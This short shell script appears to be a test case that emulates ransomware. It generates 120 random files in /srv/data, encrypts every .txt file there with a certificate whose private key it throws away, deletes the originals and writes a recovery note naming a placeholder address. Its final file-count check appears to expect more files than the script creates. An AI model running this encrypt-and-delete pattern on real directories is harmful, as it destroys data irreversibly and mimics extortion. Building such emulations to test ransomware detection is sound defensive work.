#!/bin/sh
. /opt/case/case.sh

openssl req -x509 -newkey rsa:2048 -nodes -keyout /dev/null -subj /CN=recovery -out /tmp/r.pem 2>/dev/null
for n in $(seq 1 120); do head -c 3000 /dev/urandom | base64 >/srv/data/doc-$n.txt; done
for f in /srv/data/*.txt; do openssl smime -encrypt -aes256 -binary -outform DER -in "$f" -out "$f.p7m" /tmp/r.pem && rm "$f"; done
echo 'Your documents are sealed. Write to recovery@example.net.' >/srv/data/HOW_TO_RECOVER.txt
test "$(ls /srv/data/*.p7m | wc -l)" -gt 120
took_place
